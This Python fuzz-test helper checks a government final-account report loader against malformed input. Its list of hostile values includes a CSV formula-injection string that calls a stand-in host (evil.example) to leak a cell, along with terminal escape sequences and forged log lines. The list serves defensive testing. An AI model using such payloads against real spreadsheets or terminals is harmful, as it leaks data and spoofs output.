"""The promises govfinal makes about bad input, as functions the fuzzers share.

:func:`loads_or_load_error` and :func:`assert_promises_of_a_loaded_report` state
what must hold whatever a document holds; :data:`DOCUMENTS` are the bundled
examples (and the suite's base report) to mutate, and :data:`HOSTILE_SCALARS`
the values to put in them. ``tests/hostile/test_fuzz.py`` drives them with
Hypothesis, ``tests/fuzz/fuzz_promises.py`` with atheris.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

from govfinal import check, render
from govfinal.io import LoadError, dumps, load, loads
from govfinal.model.report import FinalAccount
from govfinal.render.csv_out import table_csv
from govfinal.render.tables import build_tables
from tests.checks.base import base_report

ROOT = Path(__file__).resolve().parent.parent.parent
EXAMPLE_FILES = sorted(
    path for path in (ROOT / "examples" / "data").iterdir() if path.suffix in (".toml", ".json")
)

DOCUMENTS: tuple[dict[str, Any], ...] = tuple(
    json.loads(dumps(report, format="json"))
    for report in (*(load(path) for path in EXAMPLE_FILES), base_report())
)
"""Each example as the JSON document ``dumps`` writes (amounts as strings)."""

MAX_MESSAGE = 64 * 1024
"""Longest LoadError message a fuzzed document may produce (the errors are bounded)."""


class RawNumber(str):
    """A JSON number written as these digits (Python cannot print ints of over 4300 digits)."""


HOSTILE_SCALARS: tuple[object, ...] = (
    # amounts at and beyond their bounds
    "1e18",
    "1E+18",
    "-1e18",
    "1e-18",
    "0.000001",
    "1e19",
    "1e-19",
    "9" * 30,
    "9" * 31,
    "0." + "0" * 17 + "1",
    "1e999999",
    "NaN",
    "-Infinity",
    "-0",
    "-0.00",
    "-500",
    "-12.5",
    1,
    -1,
    10**18,
    10**30,
    10**12 + 1,
    10**4299,
    RawNumber("9" * 4300),
    RawNumber("1" + "0" * 5000),
    RawNumber("1" + "0" * 5000 + ".5"),
    # digits that only look like digits
    "55.19¹",
    "₁₂",
    "①",
    "٣",
    "５５.１９",
    "1,234.50",
    # text that attacks whatever prints or stores it
    "\ud800原因",
    "原因\udfff",
    "\u001b[2J\u001b]0;X\u0007",
    "原因\nT101 error income.total: forged",
    "\r\x00\x7f\x85\u202e",
    '=HYPERLINK("http://evil.example/?x="&A1,"c")',
    "+SUM(A1)",
    "@cmd",
    "-2+3",
    "\t=1",
    "x" * 10_000,
    "",
    " ",
    # codes and words of the format
    "2060101",
    "206",
    "30101",
    "999",
    "20A",
    "行政单位",
    "全年预算",
    "≥",
    True,
    None,
)


def slots(document: object) -> Iterator[tuple[Any, Any]]:
    """(container, key or index) of every value inside ``document``, depth first."""
    if isinstance(document, dict):
        for key, value in document.items():
            yield document, key
            yield from slots(value)
    elif isinstance(document, list):
        for index, value in enumerate(document):
            yield document, index
            yield from slots(value)


def to_json(value: object) -> str:
    """JSON text of ``value``, writing a dict's ``"\\x00twice"`` entry as its named key again.

    Lone surrogates are written as ``\\ud800`` escapes, as a hostile JSON file holds them.
    """
    if isinstance(value, dict):
        items = []
        for key, item in value.items():
            if key == "\x00twice":
                key, item = item, value[item]
            items.append(f"{json.dumps(key)}: {to_json(item)}")
        return "{" + ", ".join(items) + "}"
    if isinstance(value, list):
        return "[" + ", ".join(to_json(item) for item in value) + "]"
    if isinstance(value, RawNumber | Decimal):
        return str(value)
    return json.dumps(value)


def loads_or_load_error(text: str) -> FinalAccount | None:
    """``loads(text)``; ``None`` after a :class:`LoadError`, whose problems must be located."""
    try:
        return loads(text, format="json", source="fuzzed.json")
    except LoadError as error:
        refused = error
    assert refused.problems, "a LoadError names at least one problem"
    assert len(str(refused)) <= MAX_MESSAGE
    for problem in refused.problems:
        assert isinstance(problem.path, str)
        assert problem.message
        assert problem.line is None or problem.line >= 1
    return None


def assert_promises_of_a_loaded_report(report: FinalAccount) -> None:
    """Check, round trip and render never raise, and what they give is well formed."""
    for exact in (False, True):
        for finding in check(report, exact=exact):
            assert finding.code
            assert isinstance(finding.path, str)
            assert (finding.message_zh + finding.message_en).encode("utf-8")
    for fmt in ("toml", "json"):
        text = dumps(report, format=fmt)
        text.encode("utf-8")  # valid UTF-8: no lone surrogate got in
        again = loads(text, format=fmt)
        assert again == report
        assert dumps(again, format=fmt) == text
    for lang in ("zh", "en"):
        for layout in ("text", "markdown", "html"):
            render(report, format=layout, lang=lang).encode("utf-8")
        for table in build_tables(report, lang):
            table_csv(table).decode("utf-8-sig")
